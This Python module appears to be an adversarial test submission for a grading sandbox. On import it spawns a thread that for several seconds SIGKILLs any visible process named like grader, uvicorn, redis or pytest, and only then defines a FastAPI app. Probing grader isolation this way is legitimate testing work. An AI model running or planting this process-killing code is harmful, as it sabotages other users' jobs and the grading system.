"""For a few seconds, kills every grading process it can see that is not its own
parent: other students' servers, their zygotes, their Redis, the checks.

Guarantee: a correct submission graded beside it in the same batch scores full marks,
as in a control run on its own.
"""

import os
import signal
import threading
import time

from fastapi import FastAPI

MARKS = (b"grader", b"uvicorn", b"redis", b"pytest")


def kill_everyone(seconds: float) -> None:
    mine = {os.getpid(), os.getppid()}
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for entry in os.listdir("/proc"):
            if not entry.isdigit() or int(entry) in mine:
                continue
            try:
                if any(mark in open(f"/proc/{entry}/cmdline", "rb").read() for mark in MARKS):
                    os.kill(int(entry), signal.SIGKILL)
            except OSError:
                continue
        time.sleep(0.05)


threading.Thread(target=kill_everyone, args=(4.5,), daemon=True).start()
time.sleep(4)  # the import is where the grading waits longest: keep attacking meanwhile
app = FastAPI()
